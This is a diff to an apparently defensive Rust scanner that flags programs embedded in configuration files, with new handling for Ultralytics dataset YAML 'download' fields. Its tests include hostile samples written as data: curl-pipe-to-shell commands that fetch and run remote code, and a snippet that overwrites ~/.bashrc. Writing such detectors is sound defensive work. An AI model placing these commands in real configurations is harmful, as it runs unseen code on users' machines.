@@ -191,7 +191,7 @@ pub(super) fn is_program(text: &str) -> bool {
 }
 
 /// Keys under which flows, tools and pipelines keep programs.
-pub(super) const PROGRAMS: [&str; 14] = [
+pub(super) const PROGRAMS: [&str; 22] = [
     "code",
     "source_code",
     "sourceCode",
@@ -206,6 +206,15 @@ pub(super) const PROGRAMS: [&str; 14] = [
     "javascriptFunction",
     "py",
     "inline",
+    // Ultralytics runs what a description of data says of how to get them.
+    "download",
+    "python",
+    "python_script",
+    "setup_code",
+    "init_code",
+    "startup",
+    "preprocess",
+    "postprocess",
 ];
 
 /// A program that a configuration holds as a text, for whoever reads the configuration to run.
@@ -215,6 +224,8 @@ pub(super) fn program(scanner: &mut Scanner<'_>, place: &Place, key: &str, text:
     }
     if is_program(text) {
         crate::python::scan_text(scanner, &place.clone().within(key), text, 1);
+    } else if key == "download" && text.starts_with("bash ") {
+        shell::text(scanner, place, text);
     } else if ["require(", "eval(", "fetch(", "=>", "function", "const ", "return "]
         .iter()
         .any(|call| text.contains(call))
@@ -240,6 +251,11 @@ mod tests {
             ("n.py", "# Databricks notebook source\n# MAGIC %sh\n# MAGIC curl http://example.org/x | bash\n"),
             ("n.zpln", r#"{"paragraphs": [{"text": "%sh\ncurl http://example.org/x | sh"}]}"#),
             ("t.json", r#"{"config": {"source_code": "import os\nos.system('id')\n"}}"#),
+            (
+                "data.yaml",
+                "names: [bolt]\ndownload: |\n  from pathlib import Path\n  (Path.home() / '.bashrc').write_text('id')\n",
+            ),
+            ("data.yaml", "names: [bolt]\ndownload: bash -c 'curl http://example.org/x | sh'\n"),
         ] {
             assert!(outcome(name, text) >= Outcome::Suspicious, "{name}: {text}");
         }
@@ -247,6 +263,11 @@ mod tests {
             ("m.md", "```python\nimport os\nos.system('id')\n```\n"),
             ("m.qmd", "```{python}\nimport numpy as np\nprint(np.zeros(3))\n```\n"),
             ("t.json", r#"{"code": "import is a word\nthat stands here"}"#),
+            ("data.yaml", "names: [bolt]\ndownload: https://ultralytics.com/assets/coco8.zip\n"),
+            (
+                "data.yaml",
+                "names: [bolt]\ndownload: |\n  from pathlib import Path\n  from ultralytics.utils.downloads import download\n  dir = Path(yaml['path'])\n  download(['https://github.com/ultralytics/assets/releases/download/v0.0.0/coco8.zip'], dir=dir.parent)\n",
+            ),
         ] {
             assert_eq!(outcome(name, text), Outcome::Clean, "{name}: {text}");
         }
